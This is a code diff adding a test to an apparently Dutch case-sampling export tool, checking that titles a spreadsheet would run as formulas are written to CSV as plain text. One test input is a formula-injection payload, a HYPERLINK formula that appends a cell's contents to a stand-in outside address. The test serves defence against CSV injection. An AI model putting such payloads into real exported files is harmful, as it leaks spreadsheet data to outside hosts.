@@ -68,3 +68,20 @@ def test_the_year_is_counted_in_amsterdam_time_and_the_files_hold_no_personal_da
     workbook = load_workbook(tmp_path / "steekproef.xlsx")
     cells = [c.value for c in next(workbook.worksheets[0].iter_rows(min_row=2))]
     assert cells[0] == "NEWYEAR-000" and "employee" not in str(rows)
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(
+    engine: Engine, send: Any, tmp_path: Path
+) -> None:
+    formulas = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+31 20 123", "-2+3", "@SUM(A1)"]
+    for number, title in enumerate(formulas):
+        send(f"F-{number}", "open", "2025-03-01T10:00:00+01:00",
+             OPEN | {"directorate": "SOC-OJZ", "title": title})  # fmt: skip
+    rows = sample(tmp_path, "--year", "2025", "--size", "10", "--seed", "1")
+    assert sorted(row["title"] for row in rows) == sorted(f"'{title}" for title in formulas)
+    assert all(not row["title"].startswith(("=", "+", "-", "@")) for row in rows)
+    assert {row["scale"] for row in rows} == {"12"}  # numbers are written as they are
+    cells = {
+        c.value for row in load_workbook(tmp_path / "steekproef.xlsx").worksheets[0] for c in row
+    }
+    assert set(formulas) <= cells  # the workbook keeps them as text (strings) already
